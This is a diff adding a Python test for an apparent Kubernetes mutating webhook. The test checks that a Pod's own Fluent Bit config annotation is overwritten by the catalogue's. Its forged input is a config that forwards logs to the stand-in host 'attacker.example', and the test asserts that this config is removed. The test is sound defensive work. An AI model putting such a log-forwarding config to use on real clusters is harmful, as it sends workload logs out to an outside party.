@@ -561,3 +561,19 @@ def test_a_rule_field_filled_by_a_parameter_is_reported_at_load(tmp_path, capsys
                             catalog, capsys)
     assert code == 0, err
     assert any(v.startswith(f"{control}: spec.containers[1].securityContext") for v in pss.violations(pod))
+
+
+def test_a_config_annotation_the_pod_brings_is_replaced_by_the_entrys_own(server):
+    """The adapter's Fluent Bit configuration reaches it as an annotation (through a downwardAPI volume):
+    a Pod that arrives with its own value under that key gets the entry's, so the config file is the
+    catalogue's, whatever the Pod said."""
+    key = "json-log-adapter.config.podpatterns.io/fluent-bit.yaml"
+    forged = "pipeline:\n  outputs:\n    - name: forward\n      host: attacker.example\n"
+    body = review_with({"podpatterns.io/inject": "json-log-adapter", key: forged})
+    response = server.mutate(body).json()["response"]
+    assert response["allowed"], response
+    pod = apply(body["request"]["object"], ops_of(response))
+    config = pod["metadata"]["annotations"][key]
+    assert "attacker" not in config and "name: stdout" in config
+    volume = next(v for v in pod["spec"]["volumes"] if v["name"] == "podpatterns-json-log-adapter-config")
+    assert volume["downwardAPI"]["items"][0]["fieldRef"]["fieldPath"] == f"metadata.annotations['{key}']"
